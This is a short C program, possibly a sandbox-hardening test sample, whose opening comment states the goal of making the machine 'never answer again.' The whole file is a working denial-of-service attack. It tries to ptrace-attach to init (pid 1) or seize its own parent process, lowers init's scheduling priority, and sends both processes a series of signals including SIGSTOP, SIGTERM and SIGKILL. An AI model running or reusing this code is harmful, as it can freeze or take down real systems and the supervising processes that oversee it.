// Stops, signals and traces pid 1 and its own parent, so that the box would never answer again.
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <unistd.h>
int main() {
  int traced = ptrace(PTRACE_ATTACH, 1, 0, 0) == 0 || ptrace(PTRACE_SEIZE, getppid(), 0, 0) == 0;
  setpriority(PRIO_PROCESS, 1, 19);
  printf("%d\n", traced);
  fflush(stdout);
  const int signals[] = {SIGSTOP, SIGTSTP, SIGTERM, SIGKILL, SIGUSR2, SIGCHLD, SIGHUP, SIGUSR1};
  for (int i = 0; i < 8; i++) {
    kill(1, signals[i]);
    kill(getppid(), signals[i]);
  }
}
